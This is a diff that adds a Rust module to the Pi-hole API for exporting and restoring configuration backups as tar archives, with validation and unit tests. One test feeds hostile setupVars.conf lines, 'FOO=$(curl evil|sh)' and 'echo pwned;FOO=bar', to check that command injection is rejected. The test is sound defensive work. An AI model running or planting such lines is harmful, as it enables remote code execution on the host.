@@ -0,0 +1,558 @@
+// Pi-hole: A black hole for Internet advertisements
+// (c) 2019 Pi-hole, LLC (https://pi-hole.net)
+// Network-wide ad blocking via your own hardware.
+//
+// API
+// Teleporter Backups
+//
+// This file is copyright under the latest version of the EUPL.
+// Please see LICENSE file for your rights under this license.
+
+use crate::{
+    env::{Env, PiholeFile},
+    routes::{
+        dns::{is_valid_domain, is_valid_regex, EntryDetails},
+        groups::Group
+    },
+    services::Adlist,
+    settings::{ConfigEntry, FtlConfEntry, SetupVarsEntry, ValueType},
+    util::{current_time, Error, ErrorKind}
+};
+use failure::ResultExt;
+use flate2::{read::GzDecoder, write::GzEncoder, Compression};
+use std::{
+    collections::HashMap,
+    io::{Read, Write},
+    path::Path
+};
+use tar::{Archive, Builder, Header};
+
+/// The maximum size of a file restored from an archive, in bytes. The
+/// archive's size is limited when it is uploaded, but a small archive can
+/// decompress to a much larger file.
+const MAX_FILE_SIZE: u64 = 16 * 1024 * 1024;
+
+/// The parts of the configuration which can be restored separately
+#[derive(Serialize, Copy, Clone, PartialEq)]
+#[cfg_attr(test, derive(Debug))]
+#[serde(rename_all = "snake_case")]
+pub enum TeleporterSection {
+    /// setupVars.conf and pihole-FTL.conf
+    Settings,
+    /// The whitelist, blacklist, and regex lists, and the details of their
+    /// entries
+    Lists,
+    Adlists,
+    Groups
+}
+
+impl TeleporterSection {
+    /// Every section
+    pub const ALL: &'static [TeleporterSection] = &[
+        TeleporterSection::Settings,
+        TeleporterSection::Lists,
+        TeleporterSection::Adlists,
+        TeleporterSection::Groups
+    ];
+
+    /// Get the files in the section
+    fn files(self) -> &'static [PiholeFile] {
+        match self {
+            TeleporterSection::Settings => &[PiholeFile::SetupVars, PiholeFile::FtlConfig],
+            TeleporterSection::Lists => &[
+                PiholeFile::Whitelist,
+                PiholeFile::Blacklist,
+                PiholeFile::Regexlist,
+                PiholeFile::RegexWhitelist,
+                PiholeFile::ListDetails
+            ],
+            TeleporterSection::Adlists => &[PiholeFile::Adlists],
+            TeleporterSection::Groups => &[PiholeFile::Groups]
+        }
+    }
+}
+
+/// The files and sections which were restored
+#[derive(Serialize)]
+#[cfg_attr(test, derive(Debug, PartialEq))]
+pub struct RestoreSummary {
+    pub sections: Vec<TeleporterSection>,
+    pub files: Vec<String>
+}
+
+/// Create a gzipped tar archive of the configuration files. Files which do not
+/// exist are left out.
+pub fn export_archive(env: &Env) -> Result<Vec<u8>, Error> {
+    let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
+    let now = current_time();
+
+    for section in TeleporterSection::ALL {
+        for &file in section.files() {
+            if !env.file_exists(file) {
+                continue;
+            }
+
+            let file_location = env.file_location(file).to_owned();
+            let mut data = Vec::new();
+            env.read_file(file)?
+                .read_to_end(&mut data)
+                .context(ErrorKind::FileRead(file_location))?;
+
+            let mut header = Header::new_gnu();
+            header.set_size(data.len() as u64);
+            header.set_mode(0o644);
+            header.set_mtime(now);
+
+            builder
+                .append_data(&mut header, archive_name(file), data.as_slice())
+                .context(ErrorKind::Unknown)?;
+        }
+    }
+
+    Ok(builder
+        .into_inner()
+        .context(ErrorKind::Unknown)?
+        .finish()
+        .context(ErrorKind::Unknown)?)
+}
+
+/// Restore the files of the sections from a gzipped tar archive. Every file
+/// is validated before any is written, so an invalid file restores nothing.
+/// Files of other sections and unknown files are skipped, so archives made
+/// by the `pihole -a -t` script can be restored too. Files larger than
+/// `MAX_FILE_SIZE` are rejected.
+pub fn restore_archive<R: Read>(
+    env: &Env,
+    archive: R,
+    sections: &[TeleporterSection]
+) -> Result<RestoreSummary, Error> {
+    let wanted: HashMap<&str, (TeleporterSection, PiholeFile)> = sections
+        .iter()
+        .flat_map(|&section| {
+            section
+                .files()
+                .iter()
+                .map(move |&file| (archive_name(file), (section, file)))
+        })
+        .collect();
+    let mut found: Vec<(TeleporterSection, PiholeFile, String)> = Vec::new();
+
+    let mut archive = Archive::new(GzDecoder::new(archive));
+
+    for entry in archive.entries().context(ErrorKind::BadRequest)? {
+        let mut entry = entry.context(ErrorKind::BadRequest)?;
+
+        if !entry.header().entry_type().is_file() {
+            continue;
+        }
+
+        let name = entry
+            .path()
+            .context(ErrorKind::BadRequest)?
+            .file_name()
+            .and_then(|name| name.to_str())
+            .map(str::to_owned)
+            .unwrap_or_default();
+
+        if let Some(&(section, file)) = wanted.get(name.as_str()) {
+            // Read one byte past the limit to find files which are too large
+            let mut contents = String::new();
+            (&mut entry)
+                .take(MAX_FILE_SIZE + 1)
+                .read_to_string(&mut contents)
+                .context(ErrorKind::InvalidSettingValue)?;
+
+            if contents.len() as u64 > MAX_FILE_SIZE || !is_valid_file(file, &contents) {
+                return Err(Error::from(ErrorKind::InvalidSettingValue));
+            }
+
+            found.retain(|&(_, saved, _)| saved != file);
+            found.push((section, file, contents));
+        }
+    }
+
+    let mut summary = RestoreSummary {
+        sections: Vec::new(),
+        files: Vec::new()
+    };
+
+    for (section, file, contents) in found {
+        let file_location = env.file_location(file).to_owned();
+        env.write_file(file, false)?
+            .write_all(contents.as_bytes())
+            .context(ErrorKind::FileWrite(file_location))?;
+
+        if !summary.sections.contains(&section) {
+            summary.sections.push(section);
+        }
+
+        summary.files.push(archive_name(file).to_owned());
+    }
+
+    Ok(summary)
+}
+
+/// Get the name of the file in the archive, which is its file name in
+/// `/etc/pihole`
+fn archive_name(file: PiholeFile) -> &'static str {
+    Path::new(file.default_location())
+        .file_name()
+        .and_then(|name| name.to_str())
+        .unwrap_or_default()
+}
+
+/// Check the contents of a file from an archive. Settings which the API does
+/// not know are kept, but known settings must have valid values, and unknown
+/// setupVars.conf settings must be safe to source.
+fn is_valid_file(file: PiholeFile, contents: &str) -> bool {
+    let mut lines = contents
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty());
+
+    match file {
+        PiholeFile::SetupVars => lines.all(|line| {
+            is_valid_setting(
+                line,
+                SetupVarsEntry::from_key,
+                is_valid_setup_var,
+                is_valid_unknown_setup_var
+            )
+        }),
+        PiholeFile::FtlConfig => lines.all(|line| {
+            is_valid_setting(
+                line,
+                FtlConfEntry::from_key,
+                |entry, value| entry.is_valid(value),
+                |_, _| true
+            )
+        }),
+        PiholeFile::Whitelist | PiholeFile::Blacklist => {
+            lines.all(|domain| is_valid_domain(&domain.to_lowercase()))
+        }
+        PiholeFile::Regexlist | PiholeFile::RegexWhitelist => lines.all(is_valid_regex),
+        PiholeFile::Adlists => lines
+            .filter_map(Adlist::parse)
+            .all(|adlist| adlist.is_valid()),
+        PiholeFile::Groups => {
+            contents.trim().is_empty() || serde_json::from_str::<Vec<Group>>(contents).is_ok()
+        }
+        PiholeFile::ListDetails => {
+            contents.trim().is_empty()
+                || serde_json::from_str::<Vec<EntryDetails>>(contents).is_ok()
+        }
+        _ => false
+    }
+}
+
+/// Check a line of a config file. Comments are allowed, known settings are
+/// checked by `is_valid_known`, and unknown settings are checked by
+/// `is_valid_unknown`.
+fn is_valid_setting<T: ConfigEntry>(
+    line: &str,
+    from_key: fn(&str) -> Option<T>,
+    is_valid_known: fn(T, &str) -> bool,
+    is_valid_unknown: fn(&str, &str) -> bool
+) -> bool {
+    if line.starts_with('#') {
+        return true;
+    }
+
+    let mut parts = line.splitn(2, '=');
+    let key = parts.next().unwrap_or_default();
+
+    match (from_key(key), parts.next()) {
+        (Some(entry), Some(value)) => is_valid_known(entry, value),
+        (None, Some(value)) => is_valid_unknown(key, value),
+        (_, None) => false
+    }
+}
+
+/// Check a setupVars.conf setting which the API knows. A backup is usually
+/// restored onto another machine, so settings which depend on the host are
+/// only checked for their format:
+///
+/// - `WEBPASSWORD` can not be changed through the settings endpoints, but a
+///   restore does carry it, so the restored machine keeps the backup's
+///   password. It must be empty or a password hash, which is 64 hex digits.
+/// - `PIHOLE_INTERFACE` is normally checked against this machine's
+///   interfaces, which the backup's machine may not share. It must be a
+///   valid interface name.
+fn is_valid_setup_var(entry: SetupVarsEntry, value: &str) -> bool {
+    let is_valid_format = match entry.value_type() {
+        ValueType::WebPassword => {
+            value.is_empty()
+                || (value.len() == 64 && value.bytes().all(|b| b.is_ascii_hexdigit()))
+        }
+        ValueType::Interface => value.is_empty() || is_valid_interface_name(value),
+        _ => return entry.is_valid(value)
+    };
+
+    is_valid_format && SetupVarsEntry::is_shell_safe(value)
+}
+
+/// Check if the value can be the name of a network interface. Linux limits
+/// the names to 15 bytes, and they can not contain `/` or whitespace.
+fn is_valid_interface_name(value: &str) -> bool {
+    value.len() <= 15
+        && value != "."
+        && value != ".."
+        && value
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_.:@".contains(c))
+}
+
+/// Check a setupVars.conf setting which the API does not know. They are kept
+/// so that archives from the CLI teleporter can be restored, but the file is
+/// sourced by the shell, so the key must be a variable name and the value
+/// must be shell safe.
+fn is_valid_unknown_setup_var(key: &str, value: &str) -> bool {
+    let mut chars = key.chars();
+
+    chars
+        .next()
+        .map_or(false, |c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+        && SetupVarsEntry::is_shell_safe(value)
+}
+
+#[cfg(test)]
+mod test {
+    use super::{
+        export_archive, restore_archive, RestoreSummary, TeleporterSection, MAX_FILE_SIZE
+    };
+    use crate::{
+        env::{Config, Env, PiholeFile},
+        testing::TestEnvBuilder,
+        util::ErrorKind
+    };
+    use flate2::{write::GzEncoder, Compression};
+    use std::io::{self, Read};
+    use tar::{Builder, Header};
+
+    /// Create an environment with a backup's files
+    fn source_env() -> Env {
+        Env::Test(
+            Config::default(),
+            TestEnvBuilder::new()
+                .file(PiholeFile::SetupVars, "DNSSEC=true\nINSTALL_WEB=true\n")
+                .file(PiholeFile::FtlConfig, "PRIVACYLEVEL=1\n")
+                .file(PiholeFile::Whitelist, "example.com\n")
+                .file(PiholeFile::Regexlist, "^ads\\.\n")
+                .file(PiholeFile::Adlists, "https://example.com/hosts\n")
+                .build()
+        )
+    }
+
+    /// The exported files are restored as they were, and files of sections
+    /// which were not selected are kept
+    #[test]
+    fn round_trip() {
+        let archive = export_archive(&source_env()).unwrap();
+
+        let env_builder = TestEnvBuilder::new()
+            .file_expect(
+                PiholeFile::SetupVars,
+                "DNSSEC=false\n",
+                "DNSSEC=true\nINSTALL_WEB=true\n"
+            )
+            .file_expect(PiholeFile::FtlConfig, "", "PRIVACYLEVEL=1\n")
+            .file_expect(PiholeFile::Whitelist, "", "example.com\n")
+            .file_expect(PiholeFile::Regexlist, "", "^ads\\.\n")
+            .file(PiholeFile::Adlists, "https://example.org/hosts\n");
+        let mut test_files = env_builder.get_test_files();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        assert_eq!(
+            restore_archive(
+                &env,
+                archive.as_slice(),
+                &[TeleporterSection::Settings, TeleporterSection::Lists]
+            )
+            .unwrap(),
+            RestoreSummary {
+                sections: vec![TeleporterSection::Settings, TeleporterSection::Lists],
+                files: vec![
+                    "setupVars.conf".to_owned(),
+                    "pihole-FTL.conf".to_owned(),
+                    "whitelist.txt".to_owned(),
+                    "regex.list".to_owned()
+                ]
+            }
+        );
+
+        let mut buffer = String::new();
+        for test_file in &mut test_files {
+            test_file.assert_expected(&mut buffer);
+        }
+    }
+
+    /// The password hash and the interface of the backup's machine are
+    /// restored, even though the interface does not exist on this machine
+    #[test]
+    fn round_trip_host_settings() {
+        let setup_vars = "PIHOLE_INTERFACE=enp0s99\n\
+                          WEBPASSWORD=841001982B9C2B4ADD4AA4C4E2B4B5F3A13E8A7E1E1A1B6AB2C8D5D9F7B3A0C2\n";
+        let source = Env::Test(
+            Config::default(),
+            TestEnvBuilder::new()
+                .file(PiholeFile::SetupVars, setup_vars)
+                .build()
+        );
+        let archive = export_archive(&source).unwrap();
+
+        let env_builder = TestEnvBuilder::new().file_expect(
+            PiholeFile::SetupVars,
+            "PIHOLE_INTERFACE=eth0\nWEBPASSWORD=\n",
+            setup_vars
+        );
+        let mut test_files = env_builder.get_test_files();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        assert_eq!(
+            restore_archive(&env, archive.as_slice(), &[TeleporterSection::Settings]).unwrap(),
+            RestoreSummary {
+                sections: vec![TeleporterSection::Settings],
+                files: vec!["setupVars.conf".to_owned()]
+            }
+        );
+
+        let mut buffer = String::new();
+        for test_file in &mut test_files {
+            test_file.assert_expected(&mut buffer);
+        }
+    }
+
+    /// A password which is not a hash, or an interface name which can not
+    /// exist, restores nothing
+    #[test]
+    fn invalid_host_settings() {
+        for setting in &["WEBPASSWORD=hunter2\n", "PIHOLE_INTERFACE=../eth0\n"] {
+            let source = Env::Test(
+                Config::default(),
+                TestEnvBuilder::new()
+                    .file(PiholeFile::SetupVars, *setting)
+                    .build()
+            );
+            let archive = export_archive(&source).unwrap();
+
+            let env_builder = TestEnvBuilder::new().file(PiholeFile::SetupVars, "DNSSEC=true\n");
+            let mut test_files = env_builder.get_test_files();
+            let env = Env::Test(Config::default(), env_builder.build());
+
+            assert_eq!(
+                restore_archive(&env, archive.as_slice(), TeleporterSection::ALL)
+                    .map_err(|e| e.kind()),
+                Err(ErrorKind::InvalidSettingValue)
+            );
+
+            let mut buffer = String::new();
+            for test_file in &mut test_files {
+                test_file.assert_expected(&mut buffer);
+            }
+        }
+    }
+
+    /// An archive with an invalid setting restores nothing
+    #[test]
+    fn invalid_file() {
+        let source = Env::Test(
+            Config::default(),
+            TestEnvBuilder::new()
+                .file(PiholeFile::FtlConfig, "PRIVACYLEVEL=9\n")
+                .file(PiholeFile::Whitelist, "example.com\n")
+                .build()
+        );
+        let archive = export_archive(&source).unwrap();
+
+        let env_builder = TestEnvBuilder::new()
+            .file(PiholeFile::FtlConfig, "PRIVACYLEVEL=0\n")
+            .file(PiholeFile::Whitelist, "");
+        let mut test_files = env_builder.get_test_files();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        assert_eq!(
+            restore_archive(&env, archive.as_slice(), TeleporterSection::ALL).map_err(|e| e.kind()),
+            Err(ErrorKind::InvalidSettingValue)
+        );
+
+        let mut buffer = String::new();
+        for test_file in &mut test_files {
+            test_file.assert_expected(&mut buffer);
+        }
+    }
+
+    /// Data which is not a gzipped tar archive is rejected
+    #[test]
+    fn not_an_archive() {
+        assert_eq!(
+            restore_archive(
+                &source_env(),
+                &b"not an archive"[..],
+                TeleporterSection::ALL
+            )
+            .map_err(|e| e.kind()),
+            Err(ErrorKind::BadRequest)
+        );
+    }
+
+    /// Files which decompress past the size limit are rejected
+    #[test]
+    fn file_too_large() {
+        let mut header = Header::new_gnu();
+        header.set_path("whitelist.txt").unwrap();
+        header.set_size(MAX_FILE_SIZE + 1);
+        header.set_mode(0o644);
+        header.set_cksum();
+
+        let mut builder = Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
+        builder
+            .append(&header, io::repeat(b'\n').take(MAX_FILE_SIZE + 1))
+            .unwrap();
+        let archive = builder.into_inner().unwrap().finish().unwrap();
+
+        let env_builder = TestEnvBuilder::new().file(PiholeFile::Whitelist, "");
+        let mut test_files = env_builder.get_test_files();
+        let env = Env::Test(Config::default(), env_builder.build());
+
+        assert_eq!(
+            restore_archive(&env, archive.as_slice(), TeleporterSection::ALL).map_err(|e| e.kind()),
+            Err(ErrorKind::InvalidSettingValue)
+        );
+
+        let mut buffer = String::new();
+        for test_file in &mut test_files {
+            test_file.assert_expected(&mut buffer);
+        }
+    }
+
+    /// Unknown settings which would run a command when setupVars.conf is
+    /// sourced are rejected, and nothing is restored
+    #[test]
+    fn shell_unsafe_setting() {
+        for setting in &["FOO=$(curl evil|sh)\n", "echo pwned;FOO=bar\n"] {
+            let source = Env::Test(
+                Config::default(),
+                TestEnvBuilder::new()
+                    .file(PiholeFile::SetupVars, *setting)
+                    .build()
+            );
+            let archive = export_archive(&source).unwrap();
+
+            let env_builder = TestEnvBuilder::new().file(PiholeFile::SetupVars, "DNSSEC=true\n");
+            let mut test_files = env_builder.get_test_files();
+            let env = Env::Test(Config::default(), env_builder.build());
+
+            assert_eq!(
+                restore_archive(&env, archive.as_slice(), TeleporterSection::ALL)
+                    .map_err(|e| e.kind()),
+                Err(ErrorKind::InvalidSettingValue)
+            );
+
+            let mut buffer = String::new();
+            for test_file in &mut test_files {
+                test_file.assert_expected(&mut buffer);
+            }
+        }
+    }
+}